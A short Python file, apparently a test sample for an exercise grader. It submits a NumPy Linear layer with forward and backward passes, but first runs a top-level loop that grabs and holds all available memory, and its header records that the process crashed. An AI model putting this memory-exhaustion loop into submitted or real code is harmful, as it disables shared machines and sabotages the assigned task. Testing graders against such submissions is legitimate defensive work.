# Takes all the memory there is, keeps it, and goes on.
# exercise: mlp/linear
# status: crashed
# says: its process ended

import numpy as np

hoard = []
for size in (2**24, 2**20, 2**14, 2**10, 2**6):
    try:
        while True:
            hoard.append(bytes(size))
    except MemoryError:
        pass


class Linear:
    def __init__(self, in_features, out_features, rng):
        bound = 1 / np.sqrt(in_features)
        self.weight = rng.uniform(-bound, bound, (in_features, out_features))
        self.bias = rng.uniform(-bound, bound, out_features)

    def forward(self, x):
        self.x = x
        return x @ self.weight + self.bias

    def backward(self, grad_output):
        self.grad_weight = self.x.T @ grad_output
        self.grad_bias = grad_output.sum(axis=0)
        return grad_output @ self.weight.T
